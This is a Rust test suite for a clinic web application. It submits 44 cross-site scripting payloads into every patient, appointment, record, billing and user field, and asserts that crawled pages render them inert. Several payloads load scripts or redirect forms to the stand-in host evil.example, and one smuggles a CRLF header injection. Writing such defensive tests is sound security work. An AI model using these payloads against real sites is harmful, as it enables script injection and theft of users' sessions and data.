//! Markup, code and control characters in every field that people type, through forms and programs, looked for on every
//! page with a parser of browser grade.

use crate::harness::{Clinic, Person, Reply, clinic, crawl, dom, regular};
use crate::matrix::rows;
use domain::Role;
use serde_json::{Value, json};
use std::collections::BTreeSet;

/// What is typed where people type, hoping to run. The word `zqx` tells what became of it.
const VECTORS: [&str; 44] = [
    "<script>zqx(1)</script>",
    "<ScRiPt>zqx(2)</sCrIpT>",
    "<script src=//evil.example/zqx.js></script>",
    "\"><script>zqx(3)</script>",
    "'><script>zqx(4)</script>",
    "</title><script>zqx(5)</script>",
    "</textarea><script>zqx(6)</script>",
    "</select></option><script>zqx(7)</script>",
    "</script><script>zqx(8)</script>",
    "--><script>zqx(9)</script><!--",
    "]]><script>zqx(10)</script>",
    "<img src=zqx onerror=zqx(11)>",
    "\"><img src=zqx onerror=zqx(12)>",
    "' onmouseover='zqx(13)' x='",
    "\" onfocus=\"zqx(14)\" autofocus=\"",
    "` onpointerover=`zqx(15)`",
    "zqx onload=zqx(16)",
    "<svg/onload=zqx(17)>",
    "<svg><script>zqx(18)</script></svg>",
    "<svg><animate onbegin=zqx(19) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:zqx(20)><text>zqx</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src onerror=zqx(21)>",
    "<body onload=zqx(22)>",
    "<input autofocus onfocus=zqx(23)>",
    "<details open ontoggle=zqx(24)>",
    "<marquee onstart=zqx(25)>",
    "<video><source onerror=zqx(26)></video>",
    "<iframe srcdoc='<script>zqx(27)</script>'></iframe>",
    "<iframe src=javascript:zqx(28)></iframe>",
    "<object data=javascript:zqx(29)></object>",
    "<embed src=data:text/html,zqx(30)>",
    "<base href=//evil.example/zqx>",
    "<meta http-equiv=refresh content='0;url=javascript:zqx(31)'>",
    "<link rel=stylesheet href=//evil.example/zqx.css>",
    "<style>@import '//evil.example/zqx.css';</style>",
    "<form action=//evil.example/zqx><button>zqx</button></form>",
    "<a href='javascript:zqx(32)'>zqx</a>",
    "javascript:zqx(33)",
    "java\tscript:zqx(34)",
    "&lt;script&gt;zqx(35)&lt;/script&gt;",
    "&#60;script&#62;zqx(36)&#60;/script&#62;",
    "%3Cscript%3Ezqx(37)%3C/script%3E",
    "{{zqx}}${zqx}<%= zqx %>",
    "\u{ff1c}script\u{ff1e}zqx(38)\u{202e}",
];

/// Whether a word of ours came to stand where a browser runs it or follows it.
#[track_caller]
fn check(place: &str, reply: &Reply) {
    if reply.header("content-type").starts_with("text/html") {
        dom::check_inert(place, reply);
    } else if reply.text().contains("zqx") {
        // Programs get text as text, and browsers are told not to guess.
        let kind = reply.header("content-type");
        let is_data = kind.contains("json") || kind.starts_with("text/calendar");
        assert!(is_data && reply.header("x-content-type-options") == "nosniff", "{place}: {kind}");
    }
    for (name, value) in &reply.headers {
        let value = String::from_utf8_lossy(value.as_bytes());
        assert!(name == "location" || !value.contains("zqx"), "{place}: {name}: {value}");
    }
}

/// Stores a vector in every field of every kind of object; how many were taken.
async fn store(clinic: &Clinic, patient: &str, serial: usize, vector: &str) -> usize {
    let (desk, doctor) = (clinic.the(Role::Receptionist), clinic.the(Role::Doctor));
    let (clerk, admin) = (clinic.the(Role::Billing), clinic.the(Role::Admin));
    let (day, time) = (24 + serial % 4, format!("{:02}:{:02}", 9 + serial / 4 / 2, serial / 4 % 2 * 30));
    let lines = json!([{"description": vector, "unitAmount": "1.00"}]);
    let of = |kind: &str| format!("/api/patients/{patient}/{kind}");
    let posts: [(&Person, String, Value); 12] = [
        (
            desk,
            "/api/patients?confirmDuplicate=true".to_owned(),
            json!({"givenName": vector, "familyName": vector, "birthDate": "1980-01-01", "address": vector,
                "insurance": vector}),
        ),
        (
            desk,
            "/api/appointments".to_owned(),
            json!({"patientName": vector, "date": format!("2026-12-{day}"), "time": time, "doctor": vector}),
        ),
        (
            desk,
            "/api/appointments".to_owned(),
            json!({"patientId": patient, "doctorId": doctor.id, "start": format!("2026-12-{day}T{time}"),
                "visitType": "consultation", "reason": vector}),
        ),
        (
            doctor,
            "/api/medicalrecords".to_owned(),
            json!({"patientName": vector, "condition": vector, "treatment": vector}),
        ),
        (
            doctor,
            of("notes"),
            json!({"subjective": vector, "objective": vector, "assessment": vector, "plan": vector}),
        ),
        (doctor, of("allergies"), json!({"substance": vector, "reaction": vector, "severity": "mild"})),
        (doctor, of("medicines"), json!({"name": vector, "dosage": vector, "days": 1})),
        (doctor, of("problems"), json!({"name": vector})),
        (doctor, of("problems"), json!({"name": vector, "code": vector})),
        (clerk, "/api/billings".to_owned(), json!({"patientId": patient, "lines": lines})),
        (
            clerk,
            "/api/billings".to_owned(),
            json!({"patientName": vector, "amount": 5, "paymentMethod": vector}),
        ),
        (
            admin,
            "/api/users".to_owned(),
            json!({"username": format!("vector{serial}"), "email": format!("v{serial}@example.org"),
                "role": "nurse", "displayName": vector}),
        ),
    ];
    let mut taken = 0;
    for (person, path, body) in posts {
        let reply = clinic.post(&path).bearer(person).json(body).send().await;
        assert!(!reply.status.is_server_error(), "{path} {vector}: {}", reply.text());
        check(&path, &reply);
        if reply.status.as_u16() == 201 {
            taken += 1;
            if path.ends_with("/notes") {
                let note = format!("/api/medicalrecords/{}", reply.id());
                clinic.post(&format!("{note}/signature")).bearer(doctor).if_match(1).expect(200).await;
                let addendum = clinic.post(&format!("{note}/addenda")).bearer(doctor).if_match(2);
                addendum.json(json!({"text": vector})).send().await;
            }
            if path == "/api/appointments" && serial.is_multiple_of(2) {
                let cancel = format!("{path}/{}/cancellation", reply.id());
                clinic.post(&cancel).bearer(desk).if_match(1).json(json!({"reason": vector})).send().await;
            }
        }
    }
    taken
}

#[tokio::test]
async fn what_people_type_never_becomes_markup() {
    let clinic = clinic().await;
    let of = regular(&clinic).await;
    let mut taken = 0;
    for (serial, vector) in VECTORS.into_iter().enumerate() {
        taken += store(&clinic, &of.patient, serial, vector).await;
    }
    // Names refuse control characters, codes have a form; texts are taken as they are.
    assert!(taken > VECTORS.len() * 7, "{taken}");
    let objects: Vec<String> =
        rows().filter(|row| row.method() == "GET").map(|row| row.path(&row.id(&of))).collect();
    let days = (24..28).map(|day| format!("/appointments?date=2026-12-{day}"));
    let from: Vec<String> = objects.into_iter().chain(days).collect();
    let mut shown = 0;
    for role in Role::ALL {
        for (path, reply) in crawl(&clinic, Some(clinic.the(role)), &from).await {
            check(&path, &reply);
            shown += usize::from(reply.text().contains("zqx"));
        }
    }
    assert!(shown > 50, "the crawl came across {shown} pages with what was typed");
    let islands = [
        ("/rpc/patients", json!({"text": "script", "action": "javascript:zqx(1)"})),
        ("/rpc/patients", json!({"text": "zqx", "action": "\"><script>zqx</script>"})),
        ("/rpc/free-slots", json!({"doctor": VECTORS[3], "date": VECTORS[3], "visit_type": VECTORS[3]})),
    ];
    for (path, body) in islands {
        let reply = clinic.post(path).browser(clinic.the(Role::Receptionist)).json(body).send().await;
        // Islands put this markup into the page as it is.
        let markup: String = serde_json::from_slice(&reply.body).unwrap_or_default();
        let page = Reply { body: markup.into_bytes().into(), ..reply };
        dom::check_inert(path, &page);
    }
}

/// Fields that would end the crawl.
fn is_left_alone(action: &str) -> bool {
    ["/signout", "/sessions", "/disable", "/reset", "/password"].iter().any(|word| action.contains(word))
}

#[tokio::test]
async fn a_form_shows_what_was_typed_as_text() {
    let clinic = clinic().await;
    let of = regular(&clinic).await;
    let from: Vec<String> =
        rows().filter(|row| row.method() == "GET").map(|row| row.path(&row.id(&of))).collect();
    let mut sent = BTreeSet::new();
    for person in
        Role::ALL.map(|role| Some(clinic.the(role).clone())).into_iter().chain([None]).collect::<Vec<_>>()
    {
        for (path, reply) in crawl(&clinic, person.as_ref(), &from).await {
            for form in dom::forms(&path, &reply.text()) {
                let names: Vec<String> = form.fields.iter().map(|(name, ..)| name.clone()).collect();
                let role = person.as_ref().map(|person| person.name);
                let is_new = sent.insert((role, form.action.clone(), names));
                if is_left_alone(&form.action) || !is_new {
                    continue;
                }
                for vector in [VECTORS[3], VECTORS[6], VECTORS[14]] {
                    let fields: Vec<(&str, &str)> = form
                        .fields
                        .iter()
                        .filter(|(name, ..)| name != "idempotencyKey")
                        .map(|(name, value, is_typed)| {
                            (name.as_str(), if *is_typed { vector } else { value })
                        })
                        .collect();
                    let call = if form.is_post {
                        clinic.post(&form.action).form(&fields)
                    } else {
                        clinic.get(&format!(
                            "{}?{}",
                            form.action.split('?').next().unwrap(),
                            encoded(&fields)
                        ))
                    };
                    let call = match &person {
                        Some(person) => call.browser(person),
                        None => call.header("sec-fetch-site", "same-origin"),
                    };
                    let answer = call.send().await;
                    assert!(!answer.status.is_server_error(), "{}: {}", form.action, answer.status);
                    check(&form.action, &answer);
                }
            }
        }
    }
    assert!(sent.len() > 60, "{}", sent.len());
}

fn encoded(fields: &[(&str, &str)]) -> String {
    serde_urlencoded::to_string(fields).unwrap()
}

#[tokio::test]
async fn an_address_bar_is_no_way_in_either() {
    let clinic = clinic().await;
    let of = regular(&clinic).await;
    for role in [Role::Receptionist, Role::Doctor, Role::Admin, Role::Patient] {
        let person = clinic.the(role);
        for row in rows().filter(|row| row.method() == "GET") {
            let path = row.path(&row.id(&of));
            for vector in [VECTORS[3], VECTORS[14], "javascript:zqx(1)", "//evil.example/zqx", "\r\nzqx: 1"] {
                let query = ["q", "text", "date", "next", "notice", "doctor", "patient", "type", "status"];
                let query = encoded(&query.map(|name| (name, vector)));
                check(row.route, &clinic.get(&format!("{path}?{query}")).browser(person).send().await);
            }
        }
    }
}
